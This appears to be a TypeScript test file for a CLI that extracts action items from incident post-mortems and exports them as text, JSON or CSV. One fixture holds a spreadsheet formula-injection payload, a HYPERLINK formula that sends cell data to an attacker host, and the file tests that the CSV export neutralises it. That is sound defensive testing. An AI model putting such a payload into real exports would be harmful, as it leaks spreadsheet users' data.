// `follow-through actions`, run as a process: filters, formats, exit codes.
import { strict as assert } from "node:assert";
import { lines, runCli, tempDirPerTest, writeTree } from "../support/cli-helpers";
import { toCsv, type JsonActionsReport } from "../../server/src/cli/actions";

const TODAY = ["--today", "2026-11-24"];

const CHECKOUT = lines(
  "---", // 1
  "title: Checkout outage", // 2
  "date: 2026-11-01", // 3
  "---", // 4
  "# Post-mortem: checkout outage", // 5
  "", // 6
  "## Action items", // 7
  "", // 8
  "- [ ] Improve monitoring", // 9
  "- [ ] Alice: add alert for DB replication lag >30s in Datadog, by 2026-11-10 (PAY-101)", // 10
  "- [x] Bob: remove the stale cron job (OPS-1)", // 11
  "- [ ] ~~Carol: shard the cache~~ won't do: the cache is being retired", // 12
);

const SEARCH = lines(
  "---", // 1
  "title: Search outage, again", // 2
  "date: 2026-11-20", // 3
  "---", // 4
  "# Incident review: search", // 5
  "", // 6
  "| Action | Owner | Due | Ticket | Status |", // 7
  "|---|---|---|---|---|", // 8
  '| Add a "reindex" runbook | @alice | 2026-12-15 | https://tracker.example.com/SRCH-5 | Open |', // 9
  "| Add a canary stage | Dan | | SRCH-6 | Done |", // 10
);

describe("cli: actions", function () {
  // Each test runs the CLI several times; a busy machine must not turn that into a timeout.
  this.timeout(60_000);
  const temp = tempDirPerTest((dir) =>
    writeTree(dir, {
      "postmortems/2026-11-01-checkout.md": CHECKOUT,
      "postmortems/2026-11-20-search.md": SEARCH,
      "docs/notes.md": "# Notes\n\n## Action items\n\n- [ ] not a post-mortem\n",
    }),
  );

  function json(args: string[]): JsonActionsReport {
    const result = runCli(["actions", ...args, "--format", "json", ...TODAY], { cwd: temp.dir });
    assert.equal(result.status, 0, result.stderr);
    return JSON.parse(result.stdout) as JsonActionsReport;
  }

  it("lists open actions as JSON, newest post-mortem first, with 1-based lines", () => {
    const report = json([]);
    assert.deepEqual(
      report.actions.map((action) => [action.file, action.line, action.status]),
      [
        ["postmortems/2026-11-20-search.md", 9, "open"],
        ["postmortems/2026-11-01-checkout.md", 9, "open"],
        ["postmortems/2026-11-01-checkout.md", 10, "open"],
      ],
    );
    const alice = report.actions[2];
    assert.deepEqual(alice, {
      file: "postmortems/2026-11-01-checkout.md",
      line: 10,
      text: "add alert for DB replication lag >30s in Datadog",
      owners: ["Alice"],
      due: "2026-11-10",
      status: "open",
      tracker: ["PAY-101"],
      postMortem: { title: "Checkout outage", date: "2026-11-01" },
    });
    assert.equal(report.actions[1].due, null);
    assert.deepEqual(report.actions[0].tracker, ["https://tracker.example.com/SRCH-5"]);
  });

  it("--status all adds done and deprioritized actions", () => {
    const report = json(["--status", "all"]);
    assert.deepEqual(
      report.actions.map((action) => `${action.line}:${action.status}`),
      ["9:open", "10:done", "9:open", "10:open", "11:done", "12:deprioritized"],
    );
  });

  it("--owner matches a name, a handle or an email; --overdue keeps only late open actions", () => {
    assert.deepEqual(
      json(["--owner", "alice"]).actions.map((action) => action.owners[0]),
      ["@alice", "Alice"],
    );
    assert.deepEqual(json(["--owner", "Alice Example"]).actions.length, 2);
    assert.deepEqual(json(["--owner", "Zed"]).actions, []);
    assert.deepEqual(
      json(["--overdue"]).actions.map((action) => action.line),
      [10],
    );
    const earlier = runCli(["actions", "--overdue", "--format", "json", "--today", "2026-11-05"], {
      cwd: temp.dir,
    });
    assert.deepEqual((JSON.parse(earlier.stdout) as JsonActionsReport).actions, []);
  });

  it("takes paths like lint does", () => {
    const report = json(["postmortems/2026-11-20-search.md"]);
    assert.deepEqual(
      report.actions.map((action) => action.postMortem.title),
      ["Search outage, again"],
    );
  });

  it("prints text grouped by post-mortem with overdue marked, and a count", () => {
    const result = runCli(["actions", ...TODAY], { cwd: temp.dir });
    assert.equal(result.status, 0, result.stderr);
    const out = result.stdout.split("\n");
    assert.match(
      out[0],
      /^postmortems\/2026-11-20-search\.md {2}Search outage, again, 2026-11-20$/,
    );
    assert.match(
      result.stdout,
      /^ {2}10 {2}overdue {2}Alice {2}2026-11-10 {2}add alert for DB replication lag >30s in Datadog {2}PAY-101$/m,
    );
    assert.match(result.stdout, /^ {2}9 {3}open {5}- {6}- {11}Improve monitoring$/m);
    assert.match(result.stdout, /^3 open actions \(1 overdue\) in 2 post-mortems$/m);
    assert.doesNotMatch(result.stdout, /\u001b\[/);
  });

  it("writes CSV with a header, quoting fields that need it", () => {
    const result = runCli(["actions", "--format", "csv", ...TODAY], { cwd: temp.dir });
    assert.equal(result.status, 0, result.stderr);
    const rows = result.stdout.split("\r\n");
    assert.equal(rows[0], "file,line,text,owners,due,status,tracker,post_mortem,post_mortem_date");
    assert.equal(
      rows[1],
      `postmortems/2026-11-20-search.md,9,"Add a ""reindex"" runbook",'@alice,2026-12-15,open,https://tracker.example.com/SRCH-5,"Search outage, again",2026-11-20`,
    );
    assert.equal(
      rows[3],
      "postmortems/2026-11-01-checkout.md,10,add alert for DB replication lag >30s in Datadog,Alice,2026-11-10,open,PAY-101,Checkout outage,2026-11-01",
    );
    assert.equal(rows.length, 5);
    assert.equal(rows[4], "");
  });

  it("CSV cells a spreadsheet would run as a formula start with an apostrophe; the rest stay as written", () => {
    writeTree(temp.dir, {
      "postmortems/2026-10-02-cache.md": lines(
        "---",
        "title: =cache stampede",
        "date: 2026-10-02",
        "---",
        "# Post-mortem: cache stampede",
        "",
        "## Action items",
        "",
        '- [ ] =HYPERLINK("http://attacker.example/?leak="&A1,"Open the runbook") by 2026-12-01', // 9
        "- [ ] @kim: +1 replica for the cache tier, by 2026-12-01 (OPS-7)", // 10
        "- [ ] Priya: add a jitter to cache expiry, by 2026-12-03 (OPS-9)", // 11
      ),
    });
    const result = runCli(
      ["actions", "--format", "csv", ...TODAY, "postmortems/2026-10-02-cache.md"],
      { cwd: temp.dir },
    );
    assert.equal(result.status, 0, result.stderr);
    const rows = result.stdout.split("\r\n");
    assert.equal(
      rows[1],
      `postmortems/2026-10-02-cache.md,9,"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Open the runbook"")",,2026-12-01,open,,'=cache stampede,2026-10-02`,
    );
    assert.equal(
      rows[2],
      "postmortems/2026-10-02-cache.md,10,'+1 replica for the cache tier,'@kim,2026-12-01,open,OPS-7,'=cache stampede,2026-10-02",
    );
    assert.equal(
      rows[3],
      "postmortems/2026-10-02-cache.md,11,add a jitter to cache expiry,Priya,2026-12-03,open,OPS-9,'=cache stampede,2026-10-02",
    );
  });

  it("CSV neutralises every formula-leading character OWASP lists, also after leading spaces", () => {
    const action = (text: string) => ({
      file: "pm.md",
      line: 1,
      text,
      owners: [],
      due: null,
      status: "open" as const,
      tracker: [],
      postMortem: { title: "t", date: null },
    });
    const cells = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "plain", "a=b"].map(
      (text) =>
        toCsv({ actions: [action(text)] })
          .split("\r\n")[1]
          .split(",")[2],
    );
    assert.deepEqual(cells, [
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\t=1",
      '"\'\r=1"',
      "'  =1",
      "plain",
      "a=b",
    ]);
  });

  it("the tracker column names the ticket, not the state written after it, in text, JSON and CSV", () => {
    writeTree(temp.dir, {
      "postmortems/2026-10-09-login.md": lines(
        "---",
        "title: Login outage",
        "date: 2026-10-09",
        "---",
        "# Post-mortem: login outage",
        "",
        "## Action items",
        "",
        "| Action | Owner | Due | Ticket |",
        "|---|---|---|---|",
        "| Add a rate limit to the token endpoint | Kim | 2026-12-01 | AUTH-4121 TODO |", // 11
      ),
    });
    const file = "postmortems/2026-10-09-login.md";
    const text = runCli(["actions", ...TODAY, file], { cwd: temp.dir });
    assert.match(
      text.stdout,
      /^ {2}11 {2}open {2}Kim {2}2026-12-01 {2}Add a rate limit to the token endpoint {2}AUTH-4121$/m,
    );
    const report = JSON.parse(
      runCli(["actions", "--format", "json", ...TODAY, file], { cwd: temp.dir }).stdout,
    ) as JsonActionsReport;
    assert.deepEqual(report.actions[0].tracker, ["AUTH-4121"]);
    const csv = runCli(["actions", "--format", "csv", ...TODAY, file], {
      cwd: temp.dir,
    }).stdout.split("\r\n");
    assert.equal(
      csv[1],
      `${file},11,Add a rate limit to the token endpoint,Kim,2026-12-01,open,AUTH-4121,Login outage,2026-10-09`,
    );
  });

  it("rejects options of other commands and bad values with exit 2", () => {
    for (const [args, message] of [
      [["actions", "--status", "closed"], /--status must be open or all/],
      [["actions", "--format", "sarif"], /--format for `actions` must be text, json or csv/],
      [["lint", "--owner", "alice"], /--owner is an option of `actions`/],
      [["actions", "--owner", " "], /--owner needs a name/],
    ] as [string[], RegExp][]) {
      const result = runCli(args, { cwd: temp.dir });
      assert.equal(result.status, 2, args.join(" "));
      assert.match(result.stderr, message);
    }
  });

  it("exits 2 when a named file cannot be read, after listing the rest", () => {
    const result = runCli(["actions", "postmortems", "missing.md", "--format", "json", ...TODAY], {
      cwd: temp.dir,
    });
    assert.equal(result.status, 2);
    assert.match(result.stderr, /missing\.md: cannot read file/);
    assert.equal((JSON.parse(result.stdout) as JsonActionsReport).actions.length, 3);
  });
});
